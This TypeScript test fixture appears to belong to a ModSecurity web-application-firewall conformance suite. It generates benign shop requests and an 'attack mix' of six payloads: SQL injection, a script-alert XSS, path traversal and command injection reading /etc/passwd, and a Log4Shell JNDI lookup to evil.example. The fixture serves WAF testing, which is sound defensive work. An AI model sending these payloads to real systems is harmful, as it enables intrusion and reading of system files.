import type { Question } from '#test/conformance/modsecurity/oracle'

const common = [
  'Host',
  'shop.example',
  'User-Agent',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
  'Accept',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'Accept-Language',
  'en-GB,en;q=0.7,de;q=0.3',
  'Accept-Encoding',
  'gzip, deflate, br',
  'Cookie',
  'session=7f3a9c1e5b2d4f60; theme=dark; consent=1',
]
const withBody = (type: string, body: string): Question => ({
  method: 'POST',
  target: '/api/orders',
  headers: [...common, 'Content-Type', type, 'Content-Length', String(body.length)],
  body,
})
const words =
  'please deliver the parcel behind the green door when nobody is at home and call before noon'.split(
    ' ',
  )
const sentence = (seed: number, count: number) =>
  Array.from({ length: count }, (_, i) => words[(seed * 7 + i * 3) % words.length]).join(' ')
const formOf = (seed: number) =>
  Array.from({ length: 16 }, (_, i) => `field${i}=${encodeURIComponent(sentence(seed + i, 8))}`)
    .join('&')
    .slice(0, 1024)
const jsonOf = (seed: number) => {
  const items: object[] = []
  while (JSON.stringify(items).length < 10_100)
    items.push({
      id: seed * 1000 + items.length,
      name: sentence(seed + items.length, 4),
      price: 12.5 + items.length,
      tags: ['new', 'sale', `t${items.length}`],
      note: sentence(items.length, 10),
    })
  return JSON.stringify({ items })
}
const get = (target: string): Question => ({ method: 'GET', target, headers: common })

/** Variants, so that not everything is remembered from the request before: 50 of each kind. */
const variants = (make: (i: number) => Question) => Array.from({ length: 50 }, (_, i) => make(i))
/** What is asked of each engine, by kind. `NEW` in a target stands for something that was never there before. */
export const wafCases: Readonly<Record<string, readonly Question[]>> = {
  'benign GET': variants((i) =>
    get(`/shop/items?id=${1000 + i}&sort=price&q=${words[i % words.length]}+shoes`),
  ),
  'benign GET, every value new': variants((i) =>
    get(`/shop/items?id=NEW${i}&sort=NEWx${i}&q=blue+NEW`),
  ),
  'benign 1 KiB form': variants((i) => withBody('application/x-www-form-urlencoded', formOf(i))),
  'benign 10 KiB JSON': variants((i) => withBody('application/json', jsonOf(i))),
  'attack mix': [
    get("/?id=1'%20OR%20'1'='1"),
    get('/?q=%3Cscript%3Ealert(1)%3C/script%3E'),
    get('/?file=../../../../etc/passwd'),
    get('/?cmd=;cat+/etc/passwd'),
    withBody('application/x-www-form-urlencoded', 'a=1+UNION+SELECT+password+FROM+users--&b=x'),
    withBody(
      'application/json',
      JSON.stringify({ name: '${jndi:ldap://evil.example/a}', x: [1, 2, 3] }),
    ),
  ],
}
